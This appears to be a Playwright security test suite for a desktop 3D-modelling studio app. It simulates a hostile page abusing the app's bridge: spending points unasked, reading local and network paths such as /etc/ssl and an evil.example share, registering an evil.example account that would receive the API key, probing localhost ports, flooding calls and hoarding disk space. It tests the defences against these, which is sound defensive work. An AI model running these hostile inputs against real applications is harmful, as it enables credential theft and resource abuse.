// A window whose page is the attacker's: it neither spends, nor names files, nor sends anything away, nor wears the studio out.
import { createHash } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { picture } from '../../helpers/pictures/pictures.ts'
import { type ServedRegion, servedRegion } from '../../helpers/region/served-region.ts'
import { allOrders } from '../helpers/all-orders.ts'
import { expect, test } from '../helpers/fixture.ts'
import { addAccount, enterPracticeRegion, goTo } from '../helpers/places.ts'
import type { StudioUnderTest } from '../helpers/studio-under-test.ts'

type Answer = { ok: boolean; value?: unknown; failure?: { kind: string } }
type Call = readonly [group: string, member: string, ...args: unknown[]]

/** Calls the bridge as any script of the page can, one call after another. */
async function attack(page: Page, calls: readonly Call[]): Promise<Answer[]> {
  return await page.evaluate(async (wanted) => {
    const api = window.studio as unknown as Record<string, Record<string, (...args: unknown[]) => Promise<Answer>>>
    const answers: Answer[] = []
    for (const [group, member, ...args] of wanted) {
      const call = api[group]?.[member]
      answers.push(call ? await call(...args) : { ok: false, failure: { kind: 'no such call' } })
    }
    return answers
  }, calls)
}

const kindsOf = (answers: readonly Answer[]) => answers.map(({ failure }) => failure?.kind ?? 'done')

/** Buys models from a text, one batch of so many after another, until it is refused or `tries` were made. */
async function spend(page: Page, each: number, tries: number): Promise<Answer[]> {
  return await page.evaluate(
    async ([orders, most]) => {
      const { studio } = window
      const options = { type: 'text_to_model', prompt: 'a coin', quality: 'basic', texture: false, pbr: false } as const
      const answers: Answer[] = []
      for (let count = 0; count < most; count += 1) {
        const inputs = Array.from({ length: orders }, () => ({}))
        const quote = await studio.quotes.make({ requests: [{ kind: 'model', options }], inputs })
        if (!quote.ok) return [...answers, quote as Answer]
        const { id: quoteId, total } = quote.value
        answers.push((await studio.orders.place({ quoteId, total, titles: {} })) as Answer)
      }
      return answers
    },
    [each, tries] as const,
  )
}

let region: ServedRegion
test.beforeEach(async () => {
  region = await servedRegion()
})
test.afterEach(() => region.end())

async function enter(studio: StudioUnderTest): Promise<void> {
  await addAccount(studio.page, { name: 'Workshop', baseUrl: region.baseUrl, apiKey: region.key('rich') })
  await expect(studio.page.getByRole('button', { name: 'Add pictures…' }).first()).toBeVisible()
}

/** Points that the placed orders come to, whatever became of them since. */
async function agreed(page: Page): Promise<number> {
  return (await allOrders(page)).reduce((sum, { price }) => sum + price.uploads + price.work, 0)
}

test('a page that spends on its own meets a question it cannot answer, also after a restart', async ({ studio }) => {
  await enter(studio)
  const questions = await studio.answerQuestions('no')
  await attack(studio.page, [['settings', 'change', { confirmAbove: 0 }]])
  expect(await questions(), 'the page cannot raise the limit by itself').toHaveLength(1)
  // For a moment after a no nothing is asked at all.
  await studio.page.waitForTimeout(1500)
  const first = kindsOf(await spend(studio.page, 1, 60))
  expect(first.at(-1)).toBe('not-confirmed')
  expect(await agreed(studio.page)).toBeLessThanOrEqual(500)
  const asked = (await questions()).at(-1)
  expect(asked?.message).toMatch(/points/)
  expect(`${asked?.message} ${asked?.detail}`).toContain('Workshop')

  await studio.relaunch()
  await studio.answerQuestions('no')
  await studio.page.waitForTimeout(3000)
  expect(kindsOf(await spend(studio.page, 25, 2))).toEqual(['not-confirmed', 'not-confirmed'])
  expect(await agreed(studio.page)).toBeLessThanOrEqual(500)
})

test('practice points are spent without a question, and do not make room for others', async ({ studio }) => {
  let questions = await studio.answerQuestions('no')
  await enterPracticeRegion(studio)
  expect(new Set(kindsOf(await spend(studio.page, 10, 5)))).toEqual(new Set(['done']))
  expect(await questions()).toEqual([])
  await studio.answerQuestions('yes')
  await goTo(studio.page, 'Settings')
  await studio.page.getByRole('button', { name: 'Add account…' }).click()
  await addAccount(studio.page, { name: 'Workshop', baseUrl: region.baseUrl, apiKey: region.key('rich') })
  await expect(studio.page.getByRole('button', { name: /Account Workshop/ })).toBeVisible()
  questions = await studio.answerQuestions('no')
  expect(kindsOf(await spend(studio.page, 60, 1))).toEqual(['not-confirmed'])
  expect(await questions()).toHaveLength(1)
})

test('a page that names files gets none of them', async ({ studio }) => {
  await enterPracticeRegion(studio)
  const folder = join(studio.userData, 'private ü')
  mkdirSync(folder)
  const bytes = await picture(7)
  writeFileSync(join(folder, 'secret.png'), bytes)
  const paths = [
    '/etc/ssl',
    folder,
    join(folder, 'secret.png'),
    '\\\\evil.example\\share',
    '//evil.example/share/a.png',
  ]
  const answers = await attack(studio.page, [
    ['tray', 'add', paths],
    ...paths.map((path): Call => ['tray', 'add', [path]]),
    ['tray', 'add', ['0'.repeat(32)]],
  ])
  expect(kindsOf(answers)).not.toContain('done')
  const forged = await studio.page.evaluate(
    async (path) => {
      const { files } = window.studio as unknown as { files: Record<string, (given: unknown) => unknown> }
      const made = new File(['x'], path)
      Object.defineProperty(made, 'path', { value: path })
      const given: unknown[] = [path, [path], { path }, made, null]
      return Object.values(files).flatMap((each) =>
        given.map((one) => {
          try {
            return each(one)
          } catch {
            return 'refused'
          }
        }),
      )
    },
    join(folder, 'secret.png'),
  )
  expect(forged.every((each) => each === 'refused' || each === '')).toBe(true)
  expect((await attack(studio.page, [['tray', 'list']]))[0]).toMatchObject({ value: { items: [] } })
  studio.allow(/404/)
  const hash = createHash('sha256').update(bytes).digest('hex')
  expect(await studio.page.evaluate((of) => fetch(`/asset/source/${of}/full`).then(({ status }) => status), hash)).toBe(
    404,
  )
})

test('a dropped file is known to the page by a word alone, good for one use', async ({ studio }) => {
  await enterPracticeRegion(studio)
  const { page } = studio
  const path = join(studio.userData, 'dropped ü.png')
  writeFileSync(path, await picture(9))
  await page.evaluate(() => {
    const take = (event: DragEvent) => {
      event.stopImmediatePropagation()
      event.preventDefault()
      const [file] = event.dataTransfer?.files ?? []
      if (file) Object.assign(window, { kept: file, word: window.studio.files.wordOf(file) })
    }
    document.addEventListener('drop', take, { capture: true, once: true })
  })
  await studio.dropFiles('body', [path])
  const word = await page.waitForFunction(() => Reflect.get(window, 'word')).then((found) => found.jsonValue())
  expect(word).toMatch(/^[0-9a-f]{32}$/)
  const told = await page.evaluate(() =>
    JSON.stringify([Reflect.get(window, 'kept').path, Reflect.get(window, 'kept')]),
  )
  expect(told).not.toContain(studio.userData)
  expect(kindsOf(await attack(page, [['tray', 'add', [word], { slot: 'tray' }]]))).toEqual(['done'])
  expect(kindsOf(await attack(page, [['tray', 'add', [word], { slot: 'tray' }]]))).toEqual(['files-not-given'])
  await expect(page.getByText('dropped ü.png').first()).toBeVisible()
})

test('a page that adds an account of its own sends nothing before a person saw the host', async ({ studio }) => {
  await enter(studio)
  const questions = await studio.answerQuestions('no')
  const entry = { name: 'x', baseUrl: 'https://evil.example/secret/v2', apiKey: 'data-of-the-person' }
  expect(kindsOf(await attack(studio.page, [['accounts', 'add', entry]]))).toEqual(['not-confirmed'])
  expect((await questions()).map(({ message }) => message).join()).toContain('evil.example')
  expect(JSON.stringify(await questions())).not.toContain(entry.apiKey)
})

test('a page cannot reach a program on this computer before a person saw its port', async ({ studio }) => {
  await enter(studio)
  let reached = 0
  const listener = createServer((socket) => {
    reached += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const { port } = listener.address() as AddressInfo
  try {
    const questions = await studio.answerQuestions('no')
    const entry = { name: 'x', baseUrl: `http://127.0.0.1:${port}/v2`, apiKey: 'chosen-words' }
    expect(kindsOf(await attack(studio.page, [['accounts', 'add', entry]]))).toEqual(['not-confirmed'])
    expect((await questions()).map(({ message }) => message).join()).toContain(`127.0.0.1:${port}`)
    expect(JSON.stringify(await questions())).not.toContain(entry.apiKey)
    expect(reached).toBe(0)
    await studio.answerQuestions('yes')
    await studio.page.waitForTimeout(1200)
    await attack(studio.page, [['accounts', 'add', entry]])
    expect(reached, 'the listener would have noticed').toBeGreaterThan(0)
  } finally {
    listener.close()
  }
})

test('a page that calls without end is closed, and opens anew with everything that was typed', async ({ studio }) => {
  await enterPracticeRegion(studio)
  const { page } = studio
  await page.getByRole('tab', { name: '3D model' }).click()
  await page.getByText('From text', { exact: true }).click()
  await page.getByRole('textbox', { name: 'Prompt' }).fill('a half-typed wish 龙')
  await page.waitForTimeout(500)
  const opened = studio.app.waitForEvent('window')
  const served = page.evaluate(async () => {
    const calls = Array.from({ length: 3000 }, () => window.studio.tray.list())
    return (await Promise.all(calls)).filter(({ ok }) => ok).length
  })
  const count = await served.catch(() => 0)
  expect(count).toBeLessThan(1000)
  const fresh = await opened
  await fresh.locator('html[data-ready]').waitFor()
  await expect(fresh.getByRole('textbox', { name: 'Prompt' })).toHaveValue('a half-typed wish 龙')
  expect(await studio.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
})

test('a page cannot fill the disk with what it wants remembered', async ({ studio }) => {
  await enterPracticeRegion(studio)
  const kept = await studio.page.evaluate(async () => {
    const text = 'x'.repeat(4_000_000)
    let count = 0
    for (let at = 0; at < 12; at += 1) if ((await window.studio.memory.keep(`hoard.${at}`, text)).ok) count += 1
    return count
  })
  expect(kept * 4_000_000).toBeLessThanOrEqual(16_000_000)
})
